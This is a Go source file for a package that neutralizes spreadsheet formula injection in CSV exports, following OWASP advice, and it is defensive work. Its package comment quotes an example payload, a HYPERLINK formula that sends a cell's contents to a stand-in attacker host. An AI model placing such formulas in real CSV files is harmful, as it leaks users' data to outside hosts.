// Package csvsafe neutralizes spreadsheet formulas in CSV cells, so that a
// CSV file hexcover writes (rejects, rosters, siting and gap exports) opened
// in Excel, WPS or LibreOffice never runs a formula that came from input
// data such as `=HYPERLINK("http://evil.example/?x="&C2,"grid")`.
//
// It follows OWASP's advice on CSV injection: a text cell that begins with
// =, +, -, @, a tab or a carriage return is prefixed with a single quote,
// which spreadsheets show as text and do not evaluate. Numbers (such as
// -12.5 or +3e2) stay as they are, so they still sort and sum as numbers.
// The CSV writer's quoting still applies on top.
package csvsafe

import (
	"encoding/csv"
	"io"
)

// Cell returns s made safe to open in a spreadsheet: unchanged unless it
// begins with a formula trigger (= + - @ tab CR) and is not a plain decimal
// number, in which case it is prefixed with '.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		if isNumber(s) {
			return s
		}
		return "'" + s
	}
	return s
}

// Row applies Cell to every field of rec, in place, and returns it.
func Row(rec []string) []string {
	for i, f := range rec {
		rec[i] = Cell(f)
	}
	return rec
}

// isNumber reports whether s is a plain decimal number: an optional sign,
// digits with at most one decimal point, and an optional exponent.
func isNumber(s string) bool {
	i := 0
	if i < len(s) && (s[i] == '+' || s[i] == '-') {
		i++
	}
	digits, dot := 0, false
	for ; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !dot:
			dot = true
		default:
			goto exp
		}
	}
exp:
	if digits == 0 {
		return false
	}
	if i == len(s) {
		return true
	}
	if s[i] != 'e' && s[i] != 'E' {
		return false
	}
	i++
	if i < len(s) && (s[i] == '+' || s[i] == '-') {
		i++
	}
	if i == len(s) {
		return false
	}
	for ; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// Writer is a csv.Writer whose every cell passes through Cell.
type Writer struct {
	*csv.Writer
	rec []string
}

// NewWriter returns a Writer to w.
func NewWriter(w io.Writer) *Writer { return &Writer{Writer: csv.NewWriter(w)} }

// Write writes one record with its cells made safe; rec is not changed.
func (w *Writer) Write(rec []string) error {
	w.rec = append(w.rec[:0], rec...)
	return w.Writer.Write(Row(w.rec))
}

// WriteAll writes records with their cells made safe, then flushes.
func (w *Writer) WriteAll(recs [][]string) error {
	for _, r := range recs {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}
